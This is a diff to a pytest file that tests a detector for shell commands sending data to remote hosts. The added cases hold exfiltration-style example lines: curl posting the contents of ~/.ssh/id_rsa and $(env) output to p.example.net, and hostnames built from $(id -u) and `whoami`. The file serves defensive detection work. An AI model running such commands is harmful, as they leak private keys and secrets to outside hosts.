@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from collector.rules.remotes import _stages, command_output_url_hosts, transfer_remotes
+from collector.rules.remotes import _stages, command_output_url_hosts, posted_output_hosts, transfer_remotes
 
 
 def commands(line: str) -> list[tuple[str, bool]]:
@@ -36,3 +36,14 @@ def test_a_url_carries_command_output_only_where_a_substitution_is_in_it():
         "c.example.net"]
     assert list(command_output_url_hosts("curl https://c.example.net/a -o out-$(date +%s).csv")) == []
     assert list(command_output_url_hosts('wget "https://c.example.net/f?v=${VERSION}"')) == []
+    assert list(command_output_url_hosts("curl http://$(id -u).x.example.net/")) == ["x.example.net"]
+    assert list(command_output_url_hosts("curl http://`whoami`.a.$(hostname).x.example.net/")) == ["x.example.net"]
+    assert list(command_output_url_hosts("curl -s http://$(hostname):8080/health")) == []
+
+
+def test_a_request_body_carries_data_only_where_a_reader_fills_it():
+    assert list(posted_output_hosts('curl -s --data "$(cat ~/.ssh/id_rsa)" https://p.example.net/new')) == [
+        "p.example.net"]
+    assert list(posted_output_hosts("curl -F \"x=$(env)\" https://p.example.net/f")) == ["p.example.net"]
+    assert list(posted_output_hosts('curl -d "ts=$(date +%s)" https://p.example.net/beat')) == []
+    assert list(posted_output_hosts('echo -d "$(cat f)" https://p.example.net/')) == []
